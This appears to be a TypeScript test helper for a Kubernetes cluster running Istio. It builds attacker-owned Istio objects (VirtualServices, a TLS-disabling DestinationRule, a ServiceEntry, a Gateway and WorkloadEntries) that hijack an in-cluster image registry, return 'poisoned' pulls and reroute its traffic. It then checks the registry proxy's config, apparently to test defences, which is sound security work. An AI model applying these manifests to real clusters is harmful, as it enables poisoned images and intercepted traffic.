import { eventually, kubectlOk } from '../cluster.ts'
import { podOf, REGISTRY } from './kit.ts'

/** Objects an attacker applies in a namespace of its own to get between the registry and those who use it. */
export function hijack(namespace: string): readonly object[] {
  const metadata = { namespace, name: 'attack-hijack' }
  const hosts = [`${REGISTRY}.${REGISTRY}.svc.cluster.local`, 'localhost', '127.0.0.1']
  const elsewhere = { destination: { host: 'kubernetes.default.svc.cluster.local', port: { number: 443 } } }
  return [
    {
      apiVersion: 'networking.istio.io/v1',
      kind: 'VirtualService',
      metadata,
      spec: {
        hosts,
        exportTo: ['*'],
        http: [{ directResponse: { status: 299, body: { string: 'poisoned' } } }],
        tcp: [{ match: [{ port: 5000 }], route: [elsewhere] }],
      },
    },
    {
      apiVersion: 'networking.istio.io/v1',
      kind: 'DestinationRule',
      metadata,
      spec: { host: hosts[0], exportTo: ['*'], trafficPolicy: { tls: { mode: 'DISABLE' } } },
    },
    {
      apiVersion: 'networking.istio.io/v1',
      kind: 'ServiceEntry',
      metadata,
      spec: {
        hosts: [hosts[0]],
        exportTo: ['*'],
        location: 'MESH_EXTERNAL',
        resolution: 'STATIC',
        endpoints: [{ address: '192.0.2.66' }],
        ports: [{ number: 5000, name: 'tcp', protocol: 'TCP' }],
      },
    },
  ]
}

/** A Gateway at the node proxies and a VirtualService on it: poisoned pulls on the port they hold, and a port of its own. */
export function gateway(
  namespace: string,
  name: string,
  selector: Readonly<Record<string, string>>,
  port: number,
): readonly object[] {
  const servers = [
    { port: { number: 5000, name: 'http-a', protocol: 'HTTP' }, hosts: ['*'], bind: '127.0.0.1' },
    { port: { number: port, name: 'http-b', protocol: 'HTTP' }, hosts: ['*'] },
  ]
  return [
    {
      apiVersion: 'networking.istio.io/v1',
      kind: 'Gateway',
      metadata: { namespace, name },
      spec: { ...(Object.keys(selector).length === 0 ? {} : { selector }), servers },
    },
    {
      apiVersion: 'networking.istio.io/v1',
      kind: 'VirtualService',
      metadata: { namespace, name },
      spec: {
        hosts: ['*'],
        gateways: [name],
        http: [{ directResponse: { status: 299, body: { string: 'poisoned' } } }],
      },
    },
  ]
}

/** WorkloadEntries with somebody's address, and a Service of theirs that gives port 5000 of it another number. */
export const moved = (namespace: string, addresses: readonly string[]): readonly object[] => [
  ...addresses.map((address, index) => ({
    apiVersion: 'networking.istio.io/v1',
    kind: 'WorkloadEntry',
    metadata: { namespace, name: `attack-moved-${index}` },
    spec: { address, labels: { app: 'attack-moved' } },
  })),
  {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { namespace, name: 'attack-moved' },
    spec: { selector: { app: 'attack-moved' }, ports: [{ name: 'http', port: 5000, targetPort: 6666 }] },
  },
]

/** What the registry's own Envoy has in force. */
export async function registryConfig(): Promise<string> {
  const name = await podOf(REGISTRY, 'kube-registry')
  const ask = ['pilot-agent', 'request', 'GET', 'config_dump?resource=dynamic_listeners']
  return kubectlOk(['exec', '-n', REGISTRY, name, '-c', 'istio-proxy', '--', ...ask])
}

export const inForce = (text: string): Promise<void> =>
  eventually(
    async () => {
      if (!(await registryConfig()).includes(text)) throw new Error(`the registry's proxy has no "${text}"`)
    },
    { timeout: 30_000, every: 300 },
  )
